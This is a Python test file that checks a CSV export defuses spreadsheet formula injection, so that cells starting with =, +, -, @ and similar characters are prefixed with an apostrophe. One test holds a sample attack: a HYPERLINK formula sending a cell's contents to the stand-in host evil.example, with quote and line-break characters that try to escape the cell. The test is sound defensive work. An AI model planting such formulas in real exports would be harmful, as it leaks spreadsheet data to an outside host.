"""A file for spreadsheets never carries a formula, whatever an article says."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from hypothesis import given
from hypothesis import strategies as st

from api.alert_export import as_csv
from api.csv_export import cell

FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
COLUMNS = next(csv.reader(io.StringIO(as_csv([]))))


@given(st.text() | st.sampled_from(FORMULA).flatmap(lambda start: st.text().map(lambda rest: start + rest)))
def test_no_cell_begins_a_formula_and_none_loses_a_character(text: str) -> None:
    written = cell(text)
    assert not written.startswith(FORMULA)
    assert written.removeprefix("'") == text.removeprefix("'")


def test_an_attack_stays_one_cell() -> None:
    attack = '=HYPERLINK("http://evil.example?"&A1,"click"),"next\r\n@SUM(1)'
    row = dict.fromkeys(COLUMNS) | {"headline": attack, "created_at": datetime(2026, 3, 1, 9, tzinfo=UTC)}
    header, written = csv.reader(io.StringIO(as_csv([row]), newline=""))
    found = dict(zip(header, written, strict=True))
    assert found["headline"] == f"'{attack}"
    assert found["created_at"] == "2026-03-01T09:00:00.000Z"
    assert found["dismissed_by"] == ""
